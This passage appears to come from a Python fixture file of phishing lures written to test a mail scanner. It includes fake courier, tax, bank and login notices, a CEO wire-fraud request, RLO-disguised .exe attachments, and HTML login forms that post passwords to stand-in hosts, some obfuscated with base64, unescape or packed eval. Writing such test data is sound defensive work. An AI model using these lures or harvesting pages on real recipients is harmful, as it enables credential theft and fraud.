     "【セゾンカード】本人認証サービス 再登録のお願い",
     charset="shift_jis",
     note="Saison 3-D Secure re-registration lure",
     text="""
     セゾンカード会員の皆様

     本人認証サービスのシステム移行に伴い、再登録をお願いしております。
     下記ページより再登録を完了してください。

     https://saison-card-verify.example/3ds

     株式会社クレディセゾン
     """),

lure("lure-047-deactivate-en-ip.eml", [F, L, C, T],
     ("Mail Administrator", "mail.admin.notice@gmail.com"), [TANAKA],
     "Your mailbox will be deactivated",
     charset="us-ascii",
     note="English mailbox deactivation from gmail, raw IPv4 link",
     anchors=[("http://192.0.2.45/mail/verify", "Verify Now")],
     html_body="""
     <html><body>
     <p>Your mailbox will be deactivated within 24 hours.</p>
     <p>To keep your mailbox active, verify your account now:</p>
     <p>{a0}</p>
     <p>Mail Administrator</p>
     </body></html>
     """),

lure("lure-048-hanzi-account.eml", [K, C, T],
     ("アカウントセンター", "support@account-center-notice.example"), [SATO],
     "【重要】お客様の账户安全确认",
     charset="utf-8",
     note="simplified-hanzi account lure, plain unknown domain",
     text="""
     お客様

     お客様の账户に异常なログインが检测されました。
     安全のため、请下记のリンクから验证を完了してください。

     https://secure-account-center.example/verify

     アカウントセンター
     """),

lure("lure-049-gb2312-delivery.eml", [F, K, T],
     ("配送中心", "peisong_center88@163.com"), [INFO],
     "お荷物配达のお知らせ",
     charset="gb2312",
     note="delivery lure written with a Chinese toolchain: GB2312 charset, simplified forms",
     text="""
     お客样

     お荷物の配达について、住所が不明のため届けることができません。
     请这封邮件に返信して、正しい住所を教えてください。
     3日以内に连络がない场合、お荷物は返送されます。

     配送中心
     """),

lure("lure-050-nta-traditional.eml", [K, T, L],
     ("国税庁 税務署", "notice@zeimu-renraku.example"), [KANRI],
     "【国税庁】稅務署からの重要なお知らせ",
     charset="utf-8",
     note="tax lure with traditional-only forms (稅 內 說); nta as a hyphen part of the host",
     text="""
     納税者の皆様

     貴社の稅務申告の內容に不備が見つかりました。
     未納の稅額がございますので、詳しい說明を下記でご確認ください。

     https://nta-kakunin.example/notice

     税務署
     """),

lure("lure-051-qq-shuzai-hanzi.eml", [F, K, T],
     ("东方商务杂志 记者", "dongfang_media@qq.com"), [INFO],
     "关于贵社的取材のお願い",
     charset="utf-8",
     note="interview request from qq.com in stray-hanzi Japanese",
     text="""
     ご担当者様

     私们は东方商务杂志の记者です。
     贵社の保険业务について取材のお願いをしたいです。
     ご都合の良い时间を教えてください。

     よろしくお願いします。
     """),

lure("lure-052-toiawase-hanzi.eml", [F, K, T],
     ("株式会社グローバル贸易", "global.trade.jp2025@gmail.com"), [EIGYO],
     "商品に関するお問い合わせ（见积请求）",
     charset="utf-8",
     note="product enquiry from gmail with simplified forms",
     text="""
     ご担当者様

     贵社の商品に関するお問い合わせです。
     我们は法人向けの保険を探しています。
     见积书を送ってください。详细は添付の资料をご确认ください。

     株式会社グローバル贸易
     """),

# ---------------------------------------------------------------- moderate ones (expected: tag)

lure("lure-053-kouen-professor.eml", [F, T],
     ("関東経済大学 経営学部 教授 森田", "morita.kantokeizai.prof@gmail.com"), [TANAKA],
     "講演依頼のお願い（保険業界の現状について）",
     note="lecture request from gmail claiming a university; no link, no attachment",
     text="""
     田中 一郎 様

     突然のご連絡、失礼いたします。
     関東経済大学経営学部の森田と申します。

     本学の公開講座にて、保険代理店の現状についてご講演いただけないかと
     思い、ご連絡いたしました。講演依頼の詳細はご返信いただいた後に
     お送りいたします。

     森田
     """),

lure("lure-054-maruyama-yahoo.eml", [F, S],
     ("株式会社丸山製作所 総務部", "maruyama.soumu@yahoo.co.jp"), [SUZUKI],
     "お見積りのご相談",
     charset="shift_jis",
     note="yahoo address posing as a customer firm; signature at the firm's domain",
     text="""
     鈴木様

     いつもお世話になっております。丸山製作所総務部です。
     新しい倉庫の火災保険について、お見積りをお願いしたく存じます。
     詳細は追ってご連絡いたしますので、このアドレスへご返信ください。

     ＿＿＿＿＿＿＿＿＿＿＿＿＿＿＿＿
     株式会社丸山製作所 総務部
     soumu@maruyama-ss.example
     ＿＿＿＿＿＿＿＿＿＿＿＿＿＿＿＿
     """),

lure("lure-055-shuzai-replyto.eml", [S, T],
     ("保険毎日ニュース 編集部", "editor@hoken-mainichi-news.example"), [INFO],
     "取材のお願い",
     reply_to=("編集部", "press@media-contact-desk.example"),
     note="press request whose Reply-To is at another domain",
     text="""
     ご担当者様

     保険毎日ニュース編集部です。
     代理店経営に関する連載記事のため、取材のお願いをしております。
     ご協力いただける場合は、本メールにご返信ください。

     保険毎日ニュース 編集部
     """),

lure("lure-056-shipment-en-urlmismatch.eml", [T, U],
     ("Global Express", "noreply@global-express-track.example"), [INFO],
     "Shipment notification: parcel on hold",
     charset="utf-8",
     note="English parcel notice; anchor shows one carrier domain, goes to another",
     anchors=[("https://gx-track-status.example/p?id=GX44120981",
               "https://www.global-express.example/track/GX44120981")],
     html_body="""
     <html><body>
     <p>Your parcel GX44120981 is on hold at our depot.</p>
     <p>Track your shipment: {a0}</p>
     <p>Global Express</p>
     </body></html>
     """),

lure("lure-057-sagawa-plain.eml", [T, L],
     ("佐川急便", "info@sagawa-notice.example"), [SATO],
     "【佐川急便】配達予定のお知らせ",
     charset="utf-8", cte="8bit",
     note="Sagawa delivery notice, brand glued to -delivery",
     text="""
     お荷物の配達予定をお知らせします。
     配達状況の確認はこちら：

     https://sagawa-delivery.example/t/4821

     佐川急便
     """),

lure("lure-058-payment-overdue-en.eml", [C, T],
     ("Billing Department", "billing@portal-billing-review.example"), [YAMAMOTO],
     "Payment overdue - sign in to review your statement",
     charset="us-ascii",
     note="English payment lure: sign-in request to an unknown (not look-alike) host",
     text="""
     Dear customer,

     Your account has a payment overdue of JPY 48,600.
     Please sign in to the billing portal to review your statement:

     https://billing-portal-review.example/statement

     Billing Department
     """),

lure("lure-059-mitsumori-exe.eml", [T, X],
     ("見積センター", "mitsumori@estimate-center.example"), [EIGYO],
     "【再送】お見積書の送付",
     note="resend of an estimate as a bare .exe from an unknown company",
     attach=[Att("お見積書.exe", "exe")],
     text="""
     ご担当者様

     先日のお見積書を再送いたします。
     添付ファイルをご確認ください。

     見積センター
     """),

lure("lure-060-enquete-hanzi.eml", [K, T],
     ("市場调查センター", "survey@market-research-jp.example"), [INFO],
     "アンケートご協力のお願い",
     charset="utf-8",
     note="survey with simplified forms, no link",
     text="""
     ご担当者様

     我们は保険市场の调查を行っています。
     简単なアンケートにご协力ください。
     ご意见は本メールへの返信でお送りください。

     市场调查センター
     """),

lure("lure-061-rfq-gmail-en.eml", [F, T],
     ("Global Trading Ltd.", "globaltrading.procurement@gmail.com"), [EIGYO],
     "Request for quotation - corporate insurance",
     charset="us-ascii",
     note="English request for quotation from gmail claiming a company",
     text="""
     Dear Sir/Madam,

     We are interested in your corporate insurance products.
     Please send us your request for quotation form by reply.

     Procurement Department
     Global Trading Ltd.
     """),

lure("lure-062-hokuto-houshin-gmail.eml", [F, T],
     ("北斗生命 代理店営業部", "hokuto.life.eigyo@gmail.com"), [TANAKA],
     "2025年度 事業方針説明会のご案内",
     charset="iso-2022-jp",
     note="gmail posing as a partner insurer's sales department",
     text="""
     代理店 各位

     2025年度の事業方針説明会を下記のとおり開催いたします。
     出欠を本メールにてご返信ください。

     日時：4月22日（火）14:00〜
     会場：追ってご案内いたします

     北斗生命保険 代理店営業部
     """),

lure("lure-063-po-rlo-scr.eml", [X, R],
     ("JP Trade Partners", "orders@jp-trade-partners.example"), [EIGYO],
     "Purchase Order 4581",
     charset="us-ascii",
     note="purchase order whose file name uses RLO to hide .scr",
     attach=[Att("PO_4581\u202efdp.scr", "exe")],
     text="""
     Hello,

     Please find our purchase order 4581 attached and confirm by return.

     Regards,
     Orders Desk
     JP Trade Partners
     """),

lure("lure-064-towa-sig-sompo.eml", [S, L, LS],
     ("東和損保 サポート", "support@towa-sonpo-info.example"), [TANAKA],
     "代理店ポータル移行のお知らせ",
     charset="utf-8",
     note="signature address at the insurer's real domain, From at another; link carries another insurer's brand",
     text="""
     代理店 各位

     代理店ポータルは共同システムへ移行いたしました。
     新しいポータルは下記です。

     https://sompo-japan.agency-portal.example/

     ----------------------------
     東和損害保険 代理店サポート
     support@towa-sonpo.example
     ----------------------------
     """),

lure("lure-065-rakuten-gmail-en.eml", [F, L, T],
     ("Rakuten Card Security", "rakuten.card.security.jp@gmail.com"), [SUZUKI],
     "Rakuten Card: please review recent activity",
     charset="us-ascii",
     note="gmail and a look-alike host, no explicit credential request",
     text="""
     Dear cardholder,

     We noticed unusual activity on your card.
     Review the recent activity here:

     https://rakuten-card.security-check.example/activity

     Rakuten Card Security Team
     """),

lure("lure-066-seikyusho-rlo.eml", [T, X, R],
     ("経理センター", "keiri@keiri-service-center.example"), [INFO],
     "請求書の送付について",
     charset="iso-2022-jp",
     note="invoice whose name uses RLO so it reads 請求書_3月分exe.pdf",
     attach=[Att("請求書_3月分\u202efdp.exe", "exe", "application/pdf")],
     text="""
     ご担当者様

     3月分の請求書をお送りいたします。
     ご確認のほど、よろしくお願いいたします。

     経理センター
     """),

lure("lure-067-gijiroku-share.eml", [T, C],
     ("ドキュメント共有", "share@docs-share-viewer.example"), [SATO],
     "議事録が共有されました",
     charset="utf-8",
     note="minutes share notice asking to log in; link text is not a URL",
     anchors=[("https://docs-share-viewer.example/view?doc=gijiroku-0408", "議事録を開く")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>パートナー商事 鈴木さんから議事録が共有されました。</p>
     <p>閲覧するには、お使いのメールアカウントでログインしてください。</p>
     <p>{a0}</p>
     </body></html>
     """),

lure("lure-068-speaking-en.eml", [F, S, T],
     ("Tokyo Insurance Forum 2025", "tokyo.insurance.forum@outlook.com"), [TANAKA],
     "Speaking invitation - Tokyo Insurance Forum 2025",
     charset="us-ascii",
     note="English speaking invitation from outlook.com; signature at an events domain",
     text="""
     Dear Mr. Tanaka,

     On behalf of the organising committee, we would like to extend a
     speaking invitation to you for the Tokyo Insurance Forum 2025.
     Please reply with your availability.

     --
     Organising Committee
     Tokyo Insurance Forum 2025
     events@tokyo-insurance-forum.example
     """),

lure("lure-069-share-gmail-urlmismatch.eml", [F, U, C, L, T],
     ("パートナー商事 鈴木", "partnershoji.suzuki@gmail.com"), [SATO],
     "共有ファイルのお知らせ",
     charset="utf-8",
     note="file-share lure from gmail: anchor shows the partner's drive, goes elsewhere, asks for password",
     anchors=[("https://partner-shoji.file-view.example/login",
               "https://drive.partner-shoji.example/share/2025-04")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>佐藤様</p>
     <p>資料を共有フォルダに置きました。<br>
     閲覧にはメールアドレスとパスワードを入力してください。</p>
     <p>{a0}</p>
     <p>鈴木</p>
     </body></html>
     """),

lure("lure-070-qq-cooperation.eml", [F, K],
     ("上海东方国际", "shdongfang_intl@qq.com"), [EIGYO],
     "业务合作のご提案",
     charset="utf-8",
     note="business proposal from qq.com in stray-hanzi Japanese",
     text="""
     ご担当者様

     私们は上海の贸易会社です。
     贵社との业务合作を希望しています。
     详细についてはご返信ください。
     """),

lure("lure-071-jppost-exe.eml", [T, L, X],
     ("日本郵便", "tracking@jppost-tracking-info.example"), [INFO],
     "【日本郵便】配達状況のお知らせ",
     charset="iso-2022-jp",
     note="Japan Post notice with look-alike link and an .exe 'tracking slip'",
     attach=[Att("配達状況.exe", "exe", style="2047", charset="iso-2022-jp")],
     text="""
     お客様各位

     お荷物の配達状況をお知らせします。
     詳細は添付ファイルまたは下記URLでご確認ください。

     https://jppost-tracking.example/status

     日本郵便株式会社
     """),

lure("lure-072-dhl-zip-js.eml", [F, T, X, D],
     ("DHL Express", "dhl.express.notification@gmail.com"), [YAMAMOTO],
     "Shipment Notification - documents attached",
     charset="us-ascii",
     note="shipment lure from gmail, zip holding pdf.js",
     attach=[Att("Shipment_Documents.zip", "zip", "application/zip",
                 inner=[("Shipment_Doc.pdf.js", "txt")])],
     text="""
     Dear Customer,

     Your shipment could not be delivered due to incomplete address details.
     Please check the attached shipment documents.

     DHL Express
     """),

lure("lure-073-pw-change-lookalike.eml", [T, U, L, C, LS],
     ("さくら保険サービス 情報システム", "security@sakura-hoken-support.example"), [TANAKA, SATO],
     "【重要】セキュリティ注意喚起：パスワード変更のお願い",
     charset="iso-2022-jp",
     note="internal-looking security notice from a look-alike of the firm's own domain",
     anchors=[("https://sakura-hoken-support.example/pw/reset",
               "https://mail.sakura-hoken.example/")],
     text="""
     社員各位

     不正ログインが多発しているため、全社員のパスワードを変更します。
     本日中に下記より、パスワードを再設定してください。

     https://mail.sakura-hoken.example/ <https://sakura-hoken-support.example/pw/reset>

     情報システム担当
     """,
     html_body="""
     <html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-2022-JP"></head>
     <body>
     <p>社員各位</p>
     <p>不正ログインが多発しているため、全社員のパスワードを変更します。<br>
     本日中に下記より、パスワードを再設定してください。</p>
     <p>{a0}</p>
     <p>情報システム担当</p>
     </body></html>
     """),
lure("lure-074-envelope-gmail.eml", [F, T],
     ("株式会社パートナー商事 経理部", "keiri@partner-shoji.example"), [SATO],
     "4月分 請求書のご送付",
     charset="iso-2022-jp",
     env_from="partnershoji.keiri@gmail.com",
     note="header From at the partner, envelope sender at gmail (scan args carry the envelope)",
     text="""
     佐藤様

     いつもお世話になっております。パートナー商事経理部です。
     4月分の請求書を本日郵送いたしました。
     到着まで数日かかりますので、先にお知らせいたします。

     株式会社パートナー商事 経理部
     """),
# ---------------------------------------------------------------- own and partner look-alikes, attached login pages,
# ---------------------------------------------------------------- account themes, new brands, Chinese text

lure("lure-075-partner-typo-bank.eml", [T, LS],
     ("株式会社パートナー商事 経理部", "keiri@partner-shojl.example"), [SATO],
     "【重要】振込先口座変更のお願い",
     charset="iso-2022-jp",
     note="bank-change request from a one-letter typo of the partner's domain (i -> l)",
     text="""
     佐藤様

     いつもお世話になっております。パートナー商事経理部です。
     監査対応のため、今月より弊社の振込先口座が変更となりました。
     新しい口座は別途ご連絡いたしますので、旧口座へのお振込みは
     お控えください。

     株式会社パートナー商事 経理部
     """),

lure("lure-076-partner-othertld-invoice.eml", [T, LS, X],
     ("北村工業 経理課", "keiri@kitamura-kogyo.com"), [SATO],
     "請求書の再発行について",
     charset="utf-8",
     note="partner kitamura-kogyo.co.jp imitated at .com; an executable 'invoice' in a zip",
     attach=[Att("seikyusho.zip", "zip", "application/zip",
                 inner=[("seikyusho_0412.exe", "exe")])],
     text="""
     さくら保険サービス 佐藤様

     いつもお世話になっております。北村工業経理課です。
     先日お送りした請求書に誤りがございましたので、再発行いたしました。
     添付ファイルをご確認ください。

     北村工業株式会社 経理課
     """),

lure("lure-077-internal-glued-webmail.eml", [C, L, T],
     ("Mail Administrator", "admin@mailsecure.example"), [TANAKA],
     "Mailbox quota warning",
     charset="us-ascii",
     note="quota lure; the link is the firm's name glued to a word",
     text="""
     Dear user,

     Your mailbox is almost full (98% of 2 GB used). To keep receiving
     mail, sign in to the webmail and confirm your account:

     https://sakurahokenwebmail.example/login

     Mail Administrator
     """),

lure("lure-078-partner-homoglyph-link.eml", [C, L, T],
     ("東和損保 代理店システム", "system@agency-portal-notice.example"), [TANAKA],
     "パスワードの有効期限のお知らせ",
     charset="utf-8",
     note="password-expiry lure; the link imitates the partner insurer with 0 for o",
     text="""
     代理店各位

     代理店システムのパスワードの有効期限が近づいています。
     下記URLよりログインして、パスワードを再設定してください。

     https://towa-s0npo.example/agency/login

     東和損保 代理店システム事務局
     """),

lure("lure-079-html-login-ja.eml", [C, F, T],
     ("経理担当", "keiri.office2025@gmail.com"), [SATO],
     "支払期限のご案内（請求書添付）",
     charset="iso-2022-jp",
     note="an attached .html invoice is a login form: password input posting to a web site",
     attach=[Att("請求書_0415.html", "html", "text/html",
                 page='<html><head><meta charset="utf-8"><title>請求書の表示</title></head>'
                      '<body><p>請求書を表示するにはサインインしてください。</p>'
                      '<form method="post" action="https://doc-view-login.example/p.php">'
                      'メールアドレス <input type="email" name="e"><br>'
                      'パスワード <input type="password" name="p"><br>'
                      '<input type="submit" value="表示"></form></body></html>\n')],
     text="""
     佐藤様

     お世話になっております。
     今月分のお支払いについてご案内いたします。
     請求書を添付いたしましたのでご確認ください。

     経理担当
     """),

lure("lure-080-html-login-script-en.eml", [C, T],
     ("Accounts Payable", "ap@payments-notice.example"), [TANAKA],
     "Remittance advice 2025-04",
     charset="us-ascii",
     note="an attached .htm page whose script writes the password field",
     attach=[Att("Remittance_Advice.htm", "html", "application/octet-stream",
                 page='<html><body><div id="x"></div><script>'
                      'var f=document.createElement("form");f.action="login.php";'
                      'var p=document.createElement("input");p.type="password";'
                      'f.appendChild(p);document.getElementById("x").appendChild(f);'
                      '</script></body></html>\n')],
     text="""
     Hello,

     Please find attached the remittance advice for the April payment.
     Open the attached file to view the details.

     Accounts Payable
     """),

lure("lure-081-html-form-external.eml", [C, F, T],
     ("Microsoft 365", "m365.notice.team@outlook.com"), [SATO],
     "Password expiry notice",
     charset="us-ascii",
     note="an attached .shtml page posts what is typed to an outside site (no password input)",
     attach=[Att("Password_Keep.shtml", "html", "text/html",
                 page='<html><body><h3>Keep your current password</h3>'
                      '<form action="https://keep-pass-now.example/k">'
                      'Email <input name="u"> Current password <input name="c">'
                      '<button>Keep</button></form></body></html>\n')],
     text="""
     Your password expires today.
     To keep using your current password, open the attached page.

     Microsoft 365 Team
     """),

lure("lure-082-unusual-signin-google.eml", [C, L, T],
     ("Google", "no-reply@accounts-security-alert.example"), [TANAKA],
     "Unusual sign-in activity",
     charset="us-ascii",
     note="unusual sign-in lure; Google's name as a label of another domain",
     text="""
     Unusual sign-in activity was detected on your Google Workspace account.

     If this was not you, verify your account now:
     https://accounts.google.com.signin-check.example/verify

     The Google Workspace Team
     """),

lure("lure-083-jal-mileage.eml", [C, L, T],
     ("JALマイレージバンク", "info@jal-mileage-bank.example"), [SATO],
     "【JAL】マイルの有効期限とアカウントの確認",
     charset="utf-8",
     note="JAL mileage lure; brand glued to a word",
     text="""
     JALマイレージバンク会員の皆様

     お客様のアカウントの確認が完了していないため、
     マイルが失効する可能性があります。
     下記よりログインして本人確認を完了してください。

     https://jal-mileage-bank.example/member

     JALマイレージバンク
     """),

lure("lure-084-ana-reregister.eml", [C, L, T],
     ("ANA", "support@ana-member.example"), [TANAKA],
     "ANAマイレージクラブ 会員情報の再登録のお願い",
     charset="iso-2022-jp",
     note="ANA re-registration lure; the brand as a hyphen part",
     text="""
     ANAマイレージクラブ会員様

     システム更新のため、会員情報の再登録をお願いしております。
     下記URLよりログインし、再登録を行ってください。

     https://ana-member.example/amc/re

     ANAマイレージクラブ事務局
     """),

lure("lure-085-chinese-simplified.eml", [K, C, L, T],
     ("邮件系统管理员", "admin@mail-system-center.example"), [TANAKA],
     "邮箱容量已满通知",
     charset="gb2312",
     note="quota lure written all in simplified Chinese (no kana)",
     text="""
     尊敬的用户：

     您的邮箱容量已满，系统将暂停接收新邮件。
     请尽快点击以下链接登录验证，以免影响您的正常使用：
     http://198.51.100.23/webmail/login
     我们将在二十四小时后停止服务。

     邮件系统管理员
     """),

lure("lure-086-chinese-traditional.eml", [K, C, L],
     ("郵件系統", "service@mailbox-notice.example"), [SATO],
     "您的電子郵件帳號通知",
     charset="utf-8",
     note="account lure written all in traditional Chinese; few simplified forms, grammar words decide",
     text="""
     您好：

     您的電子郵件存儲空間已滿，我們將在今天停止您的服務。
     請點擊以下鏈接確認您的帳戶，這是最後的通知：
     http://198.51.100.24/verify

     系統管理部
     """),

# ---------------------------------------------------------------- second round: forms the first round missed

lure("lure-087-quota-ip-glued.eml", [L, C, T],
     ("メール管理センター", "admin@mail-kanri-center.example"), [SUZUKI],
     "メールボックス容量のお知らせ",
     note="quota lure; the raw IPv4 link is written straight into the Japanese sentence",
     text="""
     鈴木 様

     メールボックスの容量が上限に達しました。
     新しいメールを受信できなくなる前に、http://203.0.113.45にアクセスして
     容量を追加してください。

     メール管理センター
     """),

lure("lure-088-digit-anchor.eml", [U, L, T],
     ("北斗商事 経理部", "keiri@hokuto-shoji-billing.example"), [TANAKA],
     "請求書送付のご案内",
     charset="utf-8",
     note="anchor shows the firm's own site, href the same name with a 0 for the o",
     anchors=[("https://www.hokut0-shoji.example/seikyu/2025-06", "https://www.hokuto-shoji.example/seikyu/2025-06")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>田中様</p>
     <p>いつもお世話になっております。北斗商事経理部です。<br>
     今月分の請求書を下記に掲載いたしましたので、ご確認ください。</p>
     <p>{a0}</p>
     <p>北斗商事株式会社 経理部</p>
     </body></html>
     """),

lure("lure-089-traditional-quote.eml", [F, K],
     ("西門貿易 營業部", "ximen.trading.sales@gmail.com"), [INFO],
     "お見積りの件",
     charset="utf-8",
     note="Japanese greeting over a quotation in traditional Chinese from free mail: no foreign hanzi, the replaced forms decide",
     text="""
     ご担当者様

     いつもお世話になっております。お見積りの件、下記の通りご連絡いたします。
     よろしくお願いいたします。

     您好，附件是本公司的報價單，請查收。
     如有任何問題，請隨時與我們聯繫。

     西門貿易 營業部
     """),

# ---------------------------------------------------------------- third round: hidden forms, couriers, raw IPs, one stray hanzi

lure("lure-090-html-atob-form.eml", [C, F, T],
     ("経理部 請求担当", "seikyu.keiri.desk@gmail.com"), [SATO],
     "請求書送付のご案内",
     charset="iso-2022-jp",
     note="the attached invoice page writes its login form with document.write(atob(...)): no form in the markup",
     attach=[Att("請求書_0512.html", "html", "text/html",
                 page='<html><head><meta charset="utf-8"><title>請求書</title></head><body>'
                      '<script>document.write(atob("' + b64(FORM_JA) + '"));</script>'
                      '</body></html>\n')],
     text="""
     佐藤様

     いつもお世話になっております。
     今月分の請求書を添付いたしました。
     添付ファイルを開いてご確認ください。

     経理部 請求担当
     """),

lure("lure-091-html-body-unescape.eml", [C, T],
     ("Document Center", "no-reply@docs-share-center.example"), [TANAKA],
     "Invoice shared with you",
     charset="utf-8",
     note="HTML body whose script writes a login form from unescape(\"%3C%66...\")",
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>A document has been shared with you.</p>
     <div id="v"></div>
     <script>document.getElementById("v").innerHTML = unescape("PCT");</script>
     <p>Document Center</p>
     </body></html>
     """.replace("PCT", pct(FORM_EN))),

lure("lure-092-html-redirect-ip.eml", [C, L, T],
     ("Accounts Payable", "ap@remit-advice-notice.example"), [SUZUKI],
     "Remittance advice 2025-05",
     charset="us-ascii",
     note="the attached page sends the reader to a raw IP address decoded from base64",
     attach=[Att("Remittance_0522.htm", "html", "text/html",
                 page='<html><body><p>Loading...</p><script>window.location.href = atob("'
                      + b64("http://203.0.113.61:8080/owa/auth/logon.aspx") + '");</script>'
                      '</body></html>\n')],
     text="""
     Hello,

     Please find attached the remittance advice for the May payment.

     Accounts Payable
     """),

lure("lure-093-html-iframe-data.eml", [C, F, T],
     ("Microsoft 365", "m365.document.share@outlook.com"), [TANAKA],
     "Shared invoice document",
     charset="us-ascii",
     note="the attached page shows its login form in an iframe of a base64 data: page",
     attach=[Att("Invoice_View.html", "html", "text/html",
                 page='<html><body><iframe width="100%" height="400" src="data:text/html;base64,'
                      + b64('<html><body>' + FORM_EN + '</body></html>') + '"></iframe></body></html>\n')],
     text="""
     You have received a shared invoice.
     Open the attached file to view it.

     Microsoft 365
     """),

lure("lure-094-html-charcodes.eml", [C, T],
     ("請求書発行センター", "center@billing-docs-notice.example"), [SATO],
     "【再送】請求書のご確認",
     charset="utf-8",
     note="the attached page writes its form from a String.fromCharCode list",
     attach=[Att("請求書確認.htm", "html", "text/html",
                 page='<html><body><script>document.write(String.fromCharCode('
                      + char_codes(FORM_JA) + '));</script></body></html>\n')],
     text="""
     佐藤様

     先日お送りした請求書を再送いたします。
     添付ファイルを開いてご確認ください。

     請求書発行センター
     """),

lure("lure-095-html-packed.eml", [C, T, F],
     ("Payroll", "payroll.hr.office@gmail.com"), [YAMAMOTO],
     "Updated document: salary review",
     charset="us-ascii",
     note="the attached page hands a packed script to eval: nothing to decode, must not pass as clean",
     attach=[Att("Salary_Review.html", "html", "text/html",
                 page="<html><body><script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
                      "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
                      "('0.1(\\'<2 3=\"4\">\\');',5,5,'document|write|input|type|password'.split('|'),0,{}))"
                      "</script></body></html>\n")],
     text="""
     Hello,

     Please review the attached updated document before Friday.

     Payroll
     """),

lure("lure-096-courier-mailbox-password.eml", [C, T],
     ("Parcel Delivery Service", "notice@parcel-release-desk.example"), [TANAKA],
     "Courier notice: your package is on hold",
     charset="us-ascii",
     note="English courier notice asking for the mailbox password before the parcel is released",
     text="""
     Dear customer,

     Your package is on hold at our depot because the delivery address
     could not be confirmed. Sign in with your email password to release
     the parcel and reschedule your delivery:
     https://parcel-release-desk.example/release

     Parcel Delivery Service
     """),

lure("lure-097-shop-delivery-change.eml", [C, L, T],
     ("Amazon.co.jp", "order-update@amazon-co-jp-order.example"), [SUZUKI],
     "【重要】お届け先の変更が必要です",
     charset="iso-2022-jp",
     note="shop notice: the delivery address to change after signing in at a brand look-alike",
     text="""
     鈴木 様

     ご注文の商品は、お届け先の住所に不備があるため発送を保留しております。
     マイページにログインのうえ、配送先を変更してください。
     https://amazon-co-jp-order.example/mypage

     Amazon.co.jp カスタマーサービス
     """),

lure("lure-098-quota-bare-ip.eml", [C, L, T],
     ("Webmail Administrator", "admin@webmail-quota-desk.example"), [YAMAMOTO],
     "Mailbox quota warning",
     charset="us-ascii",
     note="English quota lure; the raw IP link is written without a scheme, with a port and a path",
     text="""
     Dear user,

     Your email storage is 98% full and new messages will be returned.
     Log in here to increase your mailbox: 198.51.100.83:2096/webmail/quota
     Alternative address: 198.51.100.83/owa/

     Webmail Administrator
     """),

lure("lure-099-enquiry-one-hanzi.eml", [K, T, F],
     ("李 明", "liming.trade.sales@gmail.com"), [INFO],
     "製品についてのお問い合わせ",
     charset="utf-8",
     note="enquiry in machine-translated Japanese with one simplified form (产) and no other",
     text="""
     ご担当者様

     はじめまして。貴社の製品にとても興味があります。
     产品のカタログを送ってください。価格も教えてください。
     よろしくお願いします。

     李 明
     """),
]

# Records added after the set was first written: gen.py renders them last,
# so the earlier messages keep their dates, ids and relays.
LATER = [

# ---------------------------------------------------------------- fourth round: topics
lure("lure-100-doc-shared-gmail.eml", [F, T, C],
     ("総務部 共有サービス", "docs.share.notice2026@gmail.com"), [SATO],
     "ドキュメントが共有されました",
     charset="utf-8",
     note="file-share notice from gmail asking for the mail address and password",
     text="""
     佐藤 様

     「2026年度 代理店手数料一覧.xlsx」が共有されました。
     閲覧するには、メールアドレスとパスワードを入力してください。
     https://share-docs-viewer.example/open/8812

     共有サービス
     """),

lure("lure-101-shared-invoice-en.eml", [F, T, C],
     ("Kenji Ota via Docs", "kenji.ota.docs@outlook.com"), [TANAKA],
     "Kenji Ota has shared a document with you",
     charset="us-ascii",
     note="English share notice: to view the invoice, enter your mail address and password",
     text="""
     Kenji Ota has shared a document with you: Invoice_2026_11.pdf

     To view the invoice, enter your mail address and password:
     https://view-shared-invoice.example/doc/5521

     Docs sharing service
     """),

lure("lure-102-fax-pdf-exe.eml", [T, X, D],
     ("複合機 FAX", "fax-gateway@office-fax-service.example"), [INFO],
     "FAX受信のお知らせ（3枚）",
     charset="iso-2022-jp",
     note="fax received notice; the 'fax' is a pdf.exe",
     text="""
     FAXを受信しました。添付ファイルをご確認ください。

     受信日時: 2026/11/30 09:12
     枚数: 3
     """,
     attach=[Att("FAX_20261130.pdf.exe", "exe")]),

lure("lure-103-voicemail-ip.eml", [T, L],
     ("Voice Mail System", "voicemail@pbx-notify.example"), [YAMAMOTO],
     "You have a new voicemail (0:42)",
     charset="us-ascii",
     note="voicemail notice in English; the message plays from a raw IPv4 host",
     text="""
     You have received a new voice message.

     Length: 0:42
     Listen: http://203.0.113.144/vm/play?id=4471

     Voice Mail System
     """),

lure("lure-104-shoyo-meisai-exe.eml", [F, T, X, D],
     ("人事部 給与担当", "jinji.kyuyo.tantou@yahoo.co.jp"), [SUZUKI],
     "冬季賞与明細のご確認",
     charset="iso-2022-jp",
     note="bonus statement from free mail posing as HR; xlsx.exe",
     text="""
     社員各位

     冬季賞与明細を送付します。
     添付ファイルを開いてご確認ください。

     人事部 給与担当
     """,
     attach=[Att("賞与明細_2026冬.xlsx.exe", "exe", style="2047", charset="iso-2022-jp")]),

lure("lure-105-ipa-infection.eml", [T, L],
     ("IPA セキュリティセンター", "center@ipa-security-info.example"), [TANAKA],
     "貴社端末のウイルス感染について",
     charset="iso-2022-jp",
     note="infection notice in IPA's name; link host starts with ipa.go.jp",
     text="""
     ご担当者様

     貴社のネットワークからウイルスに感染した端末の通信を確認しました。
     下記の確認ツールを実行してください。
     https://ipa.go.jp.infection-check.example/tool

     独立行政法人 情報処理推進機構
     """),

lure("lure-106-bec-president.eml", [F, T],
     ("代表取締役 桜井 正人", "sakurai.masato.ceo@gmail.com"), [SATO],
     "至急のお願い（極秘）",
     charset="iso-2022-jp",
     note="president's urgent confidential transfer request from free mail (BEC)",
     text="""
     佐藤さん

     今、会議中のためメールで失礼します。
     極秘の案件で、本日中に至急振込をお願いしたいです。
     他の社員には話さないでください。振込先は追って連絡します。

     桜井
     """),

lure("lure-107-held-mail-ip.eml", [T, L, C],
     ("メールシステム管理", "mail-admin@mailsystem-notice.example"), [YAMAMOTO],
     "保留中のメッセージが5通あります",
     charset="iso-2022-jp",
     note="held-mail notice: raw IPv4 link, asks for ID and password",
     text="""
     山本 様

     受信メール5通が容量制限のため保留されています。
     下記URLからIDとパスワードを入力して、メールを受け取ってください。
     http://198.51.100.61/mail/release

     メールシステム管理
     """),

